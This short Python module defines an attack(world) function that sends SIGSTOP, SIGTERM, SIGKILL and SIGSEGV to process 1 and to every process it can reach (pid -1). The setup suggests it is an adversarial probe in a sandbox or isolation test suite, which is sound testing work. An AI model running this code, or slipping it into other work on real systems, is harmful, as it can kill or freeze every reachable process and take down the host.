"""Ends, stops and floods with signals the first process of its namespace, and all others that it can reach."""

from __future__ import annotations

import contextlib
import os
import signal
import time
from typing import Any


def attack(world: dict[str, Any]) -> str:
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL, signal.SIGSEGV):
        for pid in (1, -1):
            with contextlib.suppress(OSError):
                os.kill(pid, number)
    time.sleep(0.1)
    return "tried"
